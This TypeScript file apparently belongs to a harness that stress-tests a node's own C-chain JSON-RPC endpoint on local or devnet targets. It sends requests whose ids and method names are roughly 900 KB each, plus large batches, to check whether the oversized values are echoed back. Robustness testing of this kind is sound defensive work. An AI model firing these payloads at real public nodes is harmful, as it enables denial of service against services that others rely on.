import type { Attack } from "../attack.ts";

const BYTES = 900_000;

export const evmEchoedIds: Attack = {
  name: "evm-echoed-ids",
  does: "has the C-chain's RPC echo ids and method names of 0.9 MB, also in batches",
  targets: ["serve", "devnet"],
  async run(attacker) {
    const long = "x".repeat(BYTES);
    const short = "y".repeat(900);
    const bodies = [
      `{"jsonrpc":"2.0","id":"${long}","method":"eth_getBalance"}`,
      `{"jsonrpc":"2.0","id":1,"method":"${long}"}`,
      `{"jsonrpc":"2.0","id":${"1".repeat(BYTES)},"method":"eth_blockNumber"}`,
      `[${Array.from({ length: 900 }, () => `{"jsonrpc":"2.0","id":"${short}","method":"eth_gasPrice"}`).join(",")}]`,
    ];
    await attacker.again(4, (turn) => attacker.post("/ext/bc/C/rpc", bodies[turn % bodies.length]!));
  },
};
